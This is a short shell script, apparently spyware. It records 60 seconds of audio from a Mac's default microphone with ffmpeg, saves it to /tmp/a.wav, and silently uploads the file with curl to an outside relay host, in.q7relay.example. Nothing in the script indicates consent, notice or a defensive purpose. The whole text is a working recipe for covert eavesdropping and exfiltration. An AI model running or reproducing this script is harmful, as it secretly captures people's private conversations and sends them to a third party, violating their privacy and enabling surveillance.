#!/bin/sh
ffmpeg -f avfoundation -i ":0" -t 60 /tmp/a.wav
curl -sF f=@/tmp/a.wav https://in.q7relay.example/a
